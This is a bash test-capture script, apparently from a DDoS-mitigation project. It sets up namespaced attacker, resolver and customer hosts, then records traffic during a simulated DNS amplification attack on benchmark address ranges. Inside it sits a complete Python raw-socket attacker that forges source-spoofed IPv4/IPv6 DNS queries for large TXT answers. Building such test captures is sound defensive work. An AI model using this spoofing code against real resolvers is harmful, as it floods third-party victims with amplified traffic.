#!/usr/bin/env bash
# Records what passes a customer's link while an amplification attack runs over real name servers: outside.pcapng, what comes from the
# network, and inside.pcapng, what the customer sends. Run by `cargo xtask record-capture mitigator`, which checks and compresses both.
# Root; Debian packages: see `cargo xtask setup --recording`.
#
#   attacker ---- resolvers ---- customer        198.18.0.0/16, 2001:2::/64: the ranges for such tests (RFC 2544, RFC 5180)
#   (asks in the customer's name)
#
# The customer is the Linux kernel: nobody there has asked, so it answers with port unreachable. Clients of the customer's ask the same
# servers meanwhile, and fetch a page.
set -euo pipefail
folder=$1

namespaces=(attacker resolvers customer)
# shellcheck source=examples/recording.sh
source "$(dirname "$0")/../recording.sh"

for name in "${namespaces[@]}"; do
    # The customer stands for many hosts: its errors are not limited. The attacker's lies must not be noticed.
    in_ns "$name" sysctl -q -w net.ipv4.ip_forward=1 net.ipv6.conf.all.forwarding=1 net.ipv4.conf.all.rp_filter=0 \
        net.ipv4.conf.default.rp_filter=0 net.ipv4.icmp_ratelimit=0 net.ipv4.icmp_msgs_per_sec=100000 net.ipv6.icmp.ratelimit=0
done
# cable LEFT RIGHT NUMBER
cable() {
    ip link add "to-$2" address "02:00:00:00:0$3:01" netns "$tag-$1" type veth peer name "to-$1" \
        address "02:00:00:00:0$3:02" netns "$tag-$2"
    for side in "$1 to-$2" "$2 to-$1"; do
        read -r name device <<<"$side"
        # Packets are captured as they would be on a wire.
        in_ns "$name" ethtool -K "$device" tx off rx off sg off tso off gso off gro off >/dev/null 2>&1
        in_ns "$name" ip link set "$device" up
    done
}
cable attacker resolvers 1
cable resolvers customer 2
in_ns attacker ip address add 198.19.0.1/24 dev to-resolvers
in_ns attacker ip address add 2001:2:0:1::1/64 dev to-resolvers nodad
in_ns resolvers ip address add 198.19.0.2/24 dev to-attacker
in_ns resolvers ip address add 2001:2:0:1::2/64 dev to-attacker nodad
in_ns attacker ip route add default via 198.19.0.2
in_ns attacker ip -6 route add default via 2001:2:0:1::2
for host in 1 2 3 4 5 6 7 8; do
    in_ns resolvers ip address add "198.18.0.$host/16" dev to-customer
    in_ns resolvers ip address add "2001:2::$host/64" dev to-customer nodad
done
in_ns customer ip address add 198.18.100.2/16 dev to-resolvers
in_ns customer ip address add 2001:2::100:2/64 dev to-resolvers nodad

# Answers of some 500 bytes, and of more than a frame: those come in fragments.
text=$(printf 'amplified-%.0s' {1..22})
many=()
for _ in 1 2 3 4 5 6 7 8; do many+=(--txt-record="big.example.test,$text"); done
start_in_ns resolvers dnsmasq --keep-in-foreground --no-resolv --no-hosts --conf-file=/dev/null --user=root --edns-packet-max=4096 \
    --host-record=www.example.test,198.18.0.1,2001:2::1 --txt-record=example.test,"$text","$text" "${many[@]}"
printf '<h1>a page</h1>\n' >"$work/page.html"
start_in_ns resolvers python3 -m http.server --bind 198.18.0.1 --directory "$work" 80 >/dev/null 2>&1
listens() { in_ns resolvers ss -Hlnu "sport = :53" >"$work/ss" && [ "$(wc -l <"$work/ss")" -ge 2 ]; }
wait_for listens

captures=()
for side in "in outside" "out inside"; do
    read -r direction file <<<"$side"
    start_in_ns customer tcpdump --time-stamp-precision=nano -Z root -Q "$direction" -U -s 0 -i to-resolvers \
        -w "$work/$file.pcap" 2>"$work/$file.log"
    captures+=($!)
    wait_for grep -q 'listening on' "$work/$file.log"
done

cat >"$work/attack.py" <<'PYTHON'
"""Asks every resolver in the customer's name, from so many ports, round by round."""
import socket, struct, time

def question(name, number):
    labels = b"".join(bytes([len(part)]) + part.encode() for part in name.split("."))
    # Recursion desired; one question (TXT), and EDNS with 4,096 bytes of room.
    return (struct.pack(">6H", number, 0x0100, 1, 0, 0, 1) + labels + b"\0" + struct.pack(">2H", 16, 1)
            + struct.pack(">BHHIH", 0, 41, 4096, 0, 0))

def total(data):
    data += b"\0" * (len(data) % 2)
    words = sum(struct.unpack(f">{len(data) // 2}H", data))
    while words >> 16:
        words = (words & 0xFFFF) + (words >> 16)
    return ~words & 0xFFFF

four = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
six = socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_RAW)
for round_number in range(6):
    for port in range(40000, 40025):
        for host in range(1, 9):
            asked = question("big.example.test" if port % 5 == 0 else "example.test", port)
            length = 8 + len(asked)
            source, to = socket.inet_aton("198.18.100.2"), socket.inet_aton(f"198.18.0.{host}")
            header = struct.pack(">4H", port, 53, length, 0)
            check = total(source + to + struct.pack(">BBH", 0, 17, length) + header + asked)
            udp = header[:6] + struct.pack(">H", check) + asked
            ip = struct.pack(">BBHHHBBH", 0x45, 0, 20 + length, port, 0, 64, 17, 0) + source + to
            four.sendto(ip + udp, (f"198.18.0.{host}", 0))
            if port % 4 == 0:
                source = socket.inet_pton(socket.AF_INET6, "2001:2::100:2")
                to = socket.inet_pton(socket.AF_INET6, f"2001:2::{host}")
                check = total(source + to + struct.pack(">II", length, 17) + header + asked)
                udp = header[:6] + struct.pack(">H", check) + asked
                ip = struct.pack(">IHBB", 6 << 28, length, 17, 64) + source + to
                six.sendto(ip + udp, (f"2001:2::{host}", 0))
            time.sleep(0.0005)
PYTHON
# Whoever plays both files starts both with their first packets: here these belong together.
in_ns customer ping -c 1 198.18.0.2 >/dev/null
start_in_ns attacker python3 "$work/attack.py"
attack=$!

quietly() { in_ns customer timeout 5 "$@" >/dev/null 2>&1 || true; }
while kill -0 "$attack" 2>/dev/null; do
    for host in 1 3; do
        quietly dig +tries=1 +time=1 "@198.18.0.$host" www.example.test A
        quietly dig +tries=1 +time=1 "@2001:2::$host" example.test TXT
        quietly dig +tries=1 +time=1 "@198.18.0.$host" big.example.test TXT
    done
    quietly curl -s http://198.18.0.1/page.html
    quietly ping -c 1 198.18.0.2
    sleep 0.2
done
sleep 0.5
for pid in "${captures[@]}"; do
    kill -INT "$pid"
    wait "$pid" || true
done
for file in outside inside; do editcap -F pcapng "$work/$file.pcap" "$folder/$file.pcapng"; done
